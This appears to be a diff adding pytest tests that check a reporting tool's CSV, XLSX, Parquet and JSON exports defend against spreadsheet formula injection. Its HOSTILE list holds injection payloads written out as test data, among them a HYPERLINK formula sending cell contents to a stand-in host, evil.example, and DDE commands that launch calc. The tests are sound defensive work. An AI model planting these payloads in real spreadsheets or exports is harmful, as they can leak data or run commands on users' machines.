@@ -1,10 +1,13 @@
 """Export files opened with the readers people use (pandas, openpyxl, pyarrow): the same rows, the
-watermark in each format, real number formats and level colours, Chinese text, row limits."""
+watermark in each format, real number formats and level colours, Chinese text, row limits, and
+text that would be a formula in a spreadsheet shown as text."""
 
 from __future__ import annotations
 
 import io
 import json
+import math
+import zipfile
 from datetime import UTC, datetime
 from zoneinfo import ZoneInfo
 
@@ -20,6 +23,7 @@ from reports.exports import (
     ExportTable,
     TooManyRows,
     Watermark,
+    spreadsheet_text,
     write_export,
 )
 
@@ -141,3 +145,83 @@ def test_one_table_formats_refuse_several_and_unknown_formats_are_named() -> Non
 def test_the_watermark_line_is_one_line_whatever_the_name_holds() -> None:
     line = Watermark(user="eve\nforged line", at=datetime(2025, 1, 1, tzinfo=UTC)).line()
     assert "\n" not in line and line.startswith("cityops export by eve forged line at 2025-01-01T00:00:00+00:00")
+
+
+# -- formula injection (OWASP "CSV injection") -------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "-2+3", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_text_starting_with_a_formula_character_gets_a_leading_quote(value: str) -> None:
+    assert spreadsheet_text(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Smoke on 34th Street", "黄浦区 外滩 积水", "a=b+c", "1-2", "2025-06-01", "#N/A", "",
+                                   "'=already quoted", "x" * 200, "烟" * 200])
+def test_other_text_is_left_as_it_is(value: str) -> None:
+    assert spreadsheet_text(value) == value
+
+
+def test_a_long_title_starting_with_a_formula_keeps_every_character() -> None:
+    title = "=" + "烟" * 199
+    assert spreadsheet_text(title) == "'" + title and len(spreadsheet_text(title)) == 201
+
+
+@pytest.mark.parametrize("value", [None, -2, -2.5, 0, float("nan"), pd.NA, True, datetime(2025, 1, 1, tzinfo=UTC)])
+def test_numbers_and_missing_values_are_never_touched(value: object) -> None:
+    assert spreadsheet_text(value) is value
+
+
+def incidents(titles: list[object]) -> pd.DataFrame:
+    return pd.DataFrame({"id": [str(n) for n in range(len(titles))], "title": titles,
+                         "district": ["-MN0502"] * len(titles), "lon": [-73.98] * len(titles),
+                         "events_count": [-1] * len(titles)})
+
+
+def test_csv_cells_that_would_be_formulas_start_with_a_quote_and_numbers_stay_numbers() -> None:
+    titles = [*HOSTILE, "Smoke", None]
+    data, _ = export("csv", [ExportTable("incidents", [incidents(titles)])])
+    frame = pd.read_csv(io.BytesIO(data), skiprows=1, encoding="utf-8-sig", keep_default_na=False, na_values=[""])
+    assert frame["title"].tolist()[:-1] == ["'" + title for title in HOSTILE] + ["Smoke"]
+    assert math.isnan(frame["title"].iloc[-1])  # missing stays missing, not "'"
+    assert set(frame["district"]) == {"'-MN0502"}  # every text column, not only titles
+    assert frame["lon"].tolist() == [-73.98] * len(titles) and frame["events_count"].tolist() == [-1] * len(titles)
+    lines = data.decode("utf-8-sig").split("\r\n")  # CRLF (RFC 4180); read as a spreadsheet splits rows
+    assert all(not line.split(",", 1)[-1].startswith(("=", "+", "-", "@")) for line in lines[2:] if line)
+
+
+def test_a_carriage_return_inside_a_csv_cell_cannot_start_a_row_with_a_formula() -> None:
+    data, _ = export("csv", [ExportTable("incidents", [incidents(["fire\r@SUM(1+1)*cmd|' /C calc'!A0"])])])
+    # Spreadsheets break rows at a bare CR too: the cell must be quoted so the CR stays inside it.
+    assert b'"fire\r@SUM(1+1)*cmd|\' /C calc\'!A0"' in data
+    frame = pd.read_csv(io.BytesIO(data), skiprows=1, encoding="utf-8-sig")
+    assert frame["title"].tolist() == ["fire\r@SUM(1+1)*cmd|' /C calc'!A0"] and len(frame) == 1
+
+
+def test_xlsx_holds_no_formula_text_cells_are_strings_and_numbers_numbers() -> None:
+    titles = [*HOSTILE, "#N/A", "bell\x07 rings", "Smoke", None]
+    data, _ = export("xlsx", [ExportTable("incidents", [incidents(titles)])])
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["incidents"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
+    header = [cell.value for cell in sheet[2]]
+    shown = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=3)]
+    expected = ["'" + title.replace("\r", "\n") for title in HOSTILE]  # XML reads a bare CR as a line feed
+    assert [row["title"].value for row in shown[:len(HOSTILE)]] == expected
+    assert all(row["title"].data_type == "s" for row in shown[:-1])
+    assert [row["title"].value for row in shown[len(HOSTILE):]] == ["#N/A", "bell\ufffd rings", "Smoke", None]
+    assert {row["lon"].value for row in shown} == {-73.98} and {row["lon"].data_type for row in shown} == {"n"}
+    assert {row["events_count"].value for row in shown} == {-1}
+
+
+def test_parquet_and_json_keep_titles_exactly_as_stored() -> None:
+    frame = incidents(HOSTILE)
+    data, _ = export("parquet", [ExportTable("incidents", [frame])])
+    assert pq.read_table(io.BytesIO(data)).to_pandas()["title"].tolist() == HOSTILE
+    data, _ = export("json", [ExportTable("incidents", [frame])])
+    assert [row["title"] for row in json.loads(data)["rows"]] == HOSTILE
